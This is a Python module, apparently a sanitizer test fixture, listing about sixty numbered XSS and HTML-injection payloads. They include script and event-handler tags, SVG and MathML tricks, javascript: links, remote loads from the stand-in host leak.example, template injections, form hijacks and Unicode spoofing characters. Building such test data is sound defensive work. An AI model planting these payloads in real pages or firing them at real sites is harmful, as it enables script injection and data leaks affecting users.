"""Texts that would run a script, load from another host or break the page if they were interpreted as HTML.

`@` in a template is the number of the payload: a script that runs calls `ran` with it, an address that is requested contains it.
"""

_TEMPLATES = (
    # Scripts
    "<script>ran(@)</script>",
    "<SCRIPT SRC=//leak.example/@.js></SCRIPT>",
    "</p></div></section></article><script>ran(@)</script>",
    "<scr<script>ipt>ran(@)</scr</script>ipt>",
    "<script type=module>import 'http://leak.example/@.js'</script>",
    "</textarea></title></style><script>ran(@)</script>",
    "<noscript><p title=\"</noscript><img src=leak@ onerror=ran(@)>\">",
    # Event attributes
    "<img src=leak@ onerror=ran(@)>",
    "<body onload=ran(@) onpageshow=ran(@)>",
    "<details open ontoggle=ran(@)><summary>s</summary></details>",
    "<input autofocus onfocus=ran(@)>",
    "\"><img src=leak@ onerror=\"ran(@)",
    "' onmouseover='ran(@)' autofocus tabindex='0' onfocus='ran(@)",
    "\" autofocus tabindex=\"0\" onfocus=\"ran(@)\" x=\"",
    "<video autoplay oncanplay=ran(@) onerror=ran(@)><source src=leak@ onerror=ran(@)></video>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=ran(@)>x</p>",
    "<marquee onstart=ran(@)>x</marquee>",
    "<img/src=`leak@`onerror=ran(@)>",
    "<audio src=leak@ onloadstart=ran(@) onerror=ran(@)>",
    # SVG and MathML
    "<svg onload=ran(@)></svg>",
    "<svg><script>ran(@)</script></svg>",
    "<svg><animate onbegin=ran(@) attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran(@)</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=ran(@) />#x'></use></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=leak@ onerror=ran(@)&gt;'>",
    "<math href=javascript:ran(@)>x</math>",
    # Addresses
    "<a href=javascript:ran(@) autofocus onfocus=ran(@)>x</a>",
    "[x](javascript:ran(@)) [y](JaVaScRiPt&#58;ran(@)) [z](java\tscript:ran(@))",
    "[x](data:text/html,<script>ran(@)</script>) <data:text/html,x@>",
    "[x](vbscript:ran(@)) <javascript:ran(@)>",
    "[x]: javascript:ran(@) 'title'\n[x] [x][]",
    "[x](http://ok.example \"\\\" onmouseover=\\\"ran(@)\") [y](http://ok.example/\"onclick=\"ran(@))",
    # Pictures
    "![x](http://leak.example/@.png)",
    "![x][r]\n\n[r]: http://leak.example/@.png",
    "<img srcset='http://leak.example/@.png 1x, http://leak.example/@b.png 2x'>",
    "<picture><source srcset=http://leak.example/@.png><img src=http://leak.example/@.png></picture>",
    "![\" onerror=\"ran(@)](x) ![x](leak@\" onerror=\"ran(@))",
    "<input type=image src=http://leak.example/@.png>",
    # Styles
    "<style>@import 'http://leak.example/@.css'; body{display:none}</style>",
    "<p style=\"background:url(http://leak.example/@.png)\">x</p>",
    "<link rel=stylesheet href=http://leak.example/@.css>",
    "<table background=http://leak.example/@.png><tr><td>x</table>",
    "<p style=position:fixed;inset:0;z-index:99999;background:red>over everything @</p>",
    # Templates
    "{{constructor.constructor('ran(@)')()}} {{#if 1}}@{{/if}}",
    "${ran(@)} `${ran(@)}` #{ran(@)} <%= ran(@) %> {% raw %}@",
    "$$\\href{javascript:ran(@)}{x}$$ \\(\\unicode{<img src=leak@ onerror=ran(@)>}\\)",
    "`</code></pre><img src=leak@ onerror=ran(@)>`\n\n```html\"><script>ran(@)</script>\n</pre>\n```",
    # The page and its elements
    "<meta http-equiv=refresh content='0;url=http://leak.example/@'>",
    "<base href=http://leak.example/@/>",
    "<iframe src=http://leak.example/@></iframe><iframe srcdoc='<script>parent.ran(@)</script>'></iframe>",
    "<object data=http://leak.example/@></object><embed src=http://leak.example/@>",
    "<form action=http://leak.example/@><button>Send @</button><input name=words></form>",
    "<button formaction=javascript:ran(@) data-act=undo data-memory-act=forget data-new>Undo @</button>",
    "</li></ul></div></form></main></body></html>@ <!-- ",
    "<div id=m2a-talk class=m-message data-count=@ data-see=1><template><slot name=x>@",
    # Characters
    "&lt;img src=leak@ onerror=ran(@)&gt; &#60;script&#62;ran(@)&#60;/script&#62; &amp;lt;@",
    "\u202egpj.exe.@\u202c \u2066\u202eabc\u2069 \u202e@ turned round without an end",
    "ad\u200bmin\u200d @ \ufeff\u2060\u00ad <\u200bscript>ran(@)</script>",
    "\uff1cscript\uff1eran(@)\uff1c/script\uff1e \u02bconfocus=ran(@) +ADw-script+AD4-ran(@)",
    "Z\u0351\u036b\u0343\u036a\u0302\u034f\u0334\u0319\u0324\u031e @ <![CDATA[<img src=leak@ onerror=ran(@)>]]> <?xml @?>",
)  # fmt: skip

FIRST = 100  # the number of the first payload
PAYLOADS = tuple(template.replace("@", str(number)) for number, template in enumerate(_TEMPLATES, start=FIRST))
WORDS = "turned round without an end"  # of one of them, for a search
